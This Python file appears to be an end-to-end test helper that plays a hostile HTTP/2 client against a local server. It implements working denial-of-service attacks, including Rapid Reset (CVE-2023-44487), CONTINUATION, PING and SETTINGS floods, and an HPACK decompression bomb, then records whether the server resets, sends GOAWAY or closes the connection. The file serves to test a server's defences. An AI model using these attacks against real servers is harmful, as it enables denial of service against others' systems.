"""A hostile HTTP/2 peer for the end-to-end tests: it crafts frames with hyperframe and hpack (the
frame layer of Python's h2) instead of h2's state machine, which would refuse to break the rules.

Usage: hostile_h2_peer.py PORT CA_FILE ATTACK
Prints one JSON object: what came back before the server closed the connection or, when it keeps it,
before it had answered everything (two PING round trips tell; see Reader.settle): the GOAWAY's error
code, the status of each answered stream, the streams reset and their codes, the server's PINGs and
the acknowledgements of the peer's own, whether it closed.
"""
import json
import socket
import ssl
import sys

from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(port, ca):
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port), timeout=10)
    tls = context.wrap_socket(raw, server_hostname="localhost")
    if tls.selected_alpn_protocol() != "h2":
        raise SystemExit("the server did not choose h2")
    tls.sendall(PREFACE + SettingsFrame(0).serialize())
    return tls


def request_block(encoder, path="/healthz", extra=()):
    return encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", path)] + list(extra))


class Reader:
    """Reads the server's frames and records what they amount to: the GOAWAY's error code, the status
    of each answered stream, the streams reset and their codes, the server's own PINGs, whether it
    closed. Never decides from a silence: a read that waits `PATIENCE_SECONDS` ends the run with an
    error, which fails the test with what was seen."""

    PATIENCE_SECONDS = 120

    def __init__(self, tls, ack_pings=False):
        self.tls = tls
        self.ack_pings = ack_pings
        self.buffer = b""
        self.outcome = {"goaway": None, "statuses": {}, "resets": {}, "closed": False, "pings": 0, "acks": 0}
        tls.settimeout(self.PATIENCE_SECONDS)

    def next_frame(self):
        """The next frame, recorded; None once the server has closed."""
        while not self.outcome["closed"]:
            if len(self.buffer) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
                if len(self.buffer) >= 9 + length:
                    frame.parse_body(memoryview(self.buffer[9:9 + length]))
                    self.buffer = self.buffer[9 + length:]
                    self.record(frame)
                    return frame
            try:
                chunk = self.tls.recv(65536)
            except (socket.timeout, TimeoutError):
                raise SystemExit("the server neither answered nor closed for %d s; so far: %s"
                                 % (self.PATIENCE_SECONDS, json.dumps(self.outcome)))
            except (ConnectionError, ssl.SSLError, OSError):
                chunk = b""
            if chunk:
                self.buffer += chunk
            else:
                self.outcome["closed"] = True
        return None

    def record(self, frame):
        if isinstance(frame, GoAwayFrame):
            self.outcome["goaway"] = frame.error_code
        elif isinstance(frame, RstStreamFrame):
            self.outcome["resets"][str(frame.stream_id)] = frame.error_code
        elif isinstance(frame, HeadersFrame):
            # The server's answers are small and its table starts empty: ":status" is a static entry.
            self.outcome["statuses"][str(frame.stream_id)] = status_of(frame.data)
        elif isinstance(frame, (PingFrame, SettingsFrame)) and "ACK" in frame.flags:
            self.outcome["acks"] += 1
        elif isinstance(frame, PingFrame):
            self.outcome["pings"] += 1
            if self.ack_pings:
                send(self.tls, PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"]).serialize())

    def until_closed(self):
        while self.next_frame() is not None:
            pass

    def until_ack(self, opaque):
        """Reads until the acknowledgement of the PING `opaque`; False when the server closed first."""
        while True:
            frame = self.next_frame()
            if frame is None:
                return False
            if isinstance(frame, PingFrame) and "ACK" in frame.flags and frame.opaque_data == opaque:
                return True

    def settle(self):
        """Waits until the server has answered everything sent so far, or closed: two PING round
        trips. The first ACK shows the server has read all that came before its PING, but may overtake
        the frames queued with it (nghttp2 sends acknowledgements first); the second PING leaves only
        then, so its ACK follows every one of them."""
        for opaque in (b"barrier1", b"barrier2"):
            if not send(self.tls, PingFrame(0, opaque_data=opaque).serialize()) or not self.until_ack(opaque):
                return self.until_closed()


def send(tls, data):
    """Sends `data`; False when the server has closed."""
    try:
        tls.sendall(data)
        return True
    except (ConnectionError, ssl.SSLError, OSError):
        return False


def status_of(block):
    from hpack import Decoder
    status_of.decoder = getattr(status_of, "decoder", None) or Decoder()
    for name, value in status_of.decoder.decode(block):
        if name in (":status", b":status"):
            return int(value)
    return None


def too_many_streams(tls):
    """150 complete requests in one write: the server takes 100 at once and refuses the rest."""
    encoder = Encoder()
    frames = b"".join(HeadersFrame(1 + 2 * n, request_block(encoder), flags=["END_HEADERS", "END_STREAM"]).serialize()
                      for n in range(150))
    tls.sendall(frames)


def rapid_reset(tls):
    """CVE-2023-44487: open a stream and cancel it at once, 1,000 times."""
    encoder = Encoder()
    frames = b""
    for n in range(1000):
        stream = 1 + 2 * n
        frames += HeadersFrame(stream, request_block(encoder), flags=["END_HEADERS", "END_STREAM"]).serialize()
        frames += RstStreamFrame(stream, error_code=8).serialize()
    tls.sendall(frames)


def continuation_flood(tls):
    """A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION after CONTINUATION."""
    encoder = Encoder()
    frames = HeadersFrame(1, request_block(encoder), flags=["END_STREAM"]).serialize()
    for n in range(10000):
        frames += ContinuationFrame(1, encoder.encode([("x-flood-%d" % n, "v")])).serialize()
    send(tls, frames)


def ping_flood(tls):
    """50,000 PINGs in one write, none of whose acknowledgements is read first."""
    send(tls, b"".join(PingFrame(0, opaque_data=n.to_bytes(8, "big")).serialize() for n in range(50000)))


def settings_flood(tls):
    """50,000 SETTINGS frames in one write."""
    frame = SettingsFrame(0, settings={SettingsFrame.ENABLE_PUSH: 0}).serialize()
    send(tls, frame * 50000)


def hpack_bomb(tls):
    """One 4,000-byte field stored in the HPACK table, then referenced by its one-byte index 4,000 times:
    a 300-byte header block that decodes to 16 MB."""
    encoder = Encoder()
    # The pseudo-fields are never indexed, so that x-bomb is the dynamic table's one entry, index 62
    # (RFC 7541 §2.3.3); an indexed field is the byte 0x80 | index.
    pseudo = [NeverIndexedHeaderTuple(name, value) for name, value in
              [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/healthz")]]
    first = encoder.encode(pseudo + [("x-bomb", "b" * 4000)])
    tls.sendall(HeadersFrame(1, first, flags=["END_HEADERS", "END_STREAM"]).serialize())
    bomb = encoder.encode(pseudo) + bytes([0x80 | 62]) * 4000
    tls.sendall(HeadersFrame(3, bomb, flags=["END_HEADERS", "END_STREAM"]).serialize())


def large_header_list(tls):
    """20 KiB of fields in one request, past the 16 KiB header list limit."""
    encoder = Encoder()
    block = request_block(encoder, extra=[("x-filler-%d" % n, "v" * 1000) for n in range(20)])
    frames = HeadersFrame(1, block[:16000], flags=[]).serialize()
    frames += ContinuationFrame(1, block[16000:], flags=["END_HEADERS"]).serialize()
    frames = frames[:4] + bytes([frames[4] | 0x1]) + frames[5:]  # END_STREAM on the HEADERS frame
    tls.sendall(frames)


def never_reads(tls):
    """A zero window (the peer will never read a body), then requests whose answers cannot leave."""
    encoder = Encoder()
    frames = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize()
    frames += b"".join(HeadersFrame(1 + 2 * n, request_block(encoder), flags=["END_HEADERS", "END_STREAM"]).serialize()
                       for n in range(100))
    tls.sendall(frames)


def request_behind_goaway(tls):
    """The peer's GOAWAY (it is closing), then a request, in one write: with no stream open, nothing
    behind the GOAWAY is read."""
    encoder = Encoder()
    tls.sendall(GoAwayFrame(0, last_stream_id=0).serialize()
                + HeadersFrame(1, request_block(encoder), flags=["END_HEADERS", "END_STREAM"]).serialize())


def goaway_with_a_stream_in_flight(tls):
    """A request, the peer's GOAWAY, then another request, in one write (one TLS record, so the
    server reads them together): the first is answered, the second refused."""
    encoder = Encoder()
    tls.sendall(HeadersFrame(1, request_block(encoder), flags=["END_HEADERS", "END_STREAM"]).serialize()
                + GoAwayFrame(0, last_stream_id=0).serialize()
                + HeadersFrame(3, request_block(encoder), flags=["END_HEADERS", "END_STREAM"]).serialize())


def reading_flood(reader, frame, batch=20, most=20000):
    """`frame` again and again, `batch` at a time, each batch's acknowledgements read before the next
    leaves: a flood that a limit on queued acknowledgements never sees. Stops at the GOAWAY."""
    sent = 0
    acknowledged_before = reader.outcome["acks"]
    while sent < most and reader.outcome["goaway"] is None:
        if not send(reader.tls, frame * batch):
            break
        sent += batch
        while reader.outcome["acks"] - acknowledged_before < sent and reader.outcome["goaway"] is None:
            if reader.next_frame() is None:
                return
    reader.outcome["sent"] = sent


def reading_ping_flood(reader):
    """PINGs, each batch's acknowledgements read before the next."""
    reading_flood(reader, PingFrame(0, opaque_data=b"flooding").serialize())


def reading_settings_flood(reader):
    """Empty SETTINGS frames, each batch's acknowledgements read before the next."""
    reading_flood(reader, SettingsFrame(0).serialize())


def never_acks_ping(reader):
    """Reads everything and answers nothing, the server's keep-alive PING included, until the server closes."""
    reader.until_closed()


def acks_pings(reader):
    """Acknowledges the server's keep-alive PINGs; after the second, checks the connection still answers."""
    while reader.outcome["pings"] < 2:
        if reader.next_frame() is None:
            return


def stays_idle(reader):
    """Acknowledges the server's PINGs and sends nothing else, until the server closes."""
    reader.until_closed()


ATTACKS = {f.__name__.replace("_", "-"): f for f in [too_many_streams, rapid_reset, continuation_flood, ping_flood,
                                                      settings_flood, hpack_bomb, large_header_list, never_reads,
                                                      request_behind_goaway, goaway_with_a_stream_in_flight]}
# Peers that read while they act, and decide themselves when they are done.
READING = {f.__name__.replace("_", "-"): f for f in [reading_ping_flood, reading_settings_flood, never_acks_ping,
                                                      acks_pings, stays_idle]}

if __name__ == "__main__":
    port, ca, attack = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    connection = connect(port, ca)
    reader = Reader(connection, ack_pings=attack in ("acks-pings", "stays-idle"))
    if attack in READING:
        READING[attack](reader)
    else:
        ATTACKS[attack](connection)
    if not reader.outcome["closed"]:
        reader.settle()
    print(json.dumps(reader.outcome))
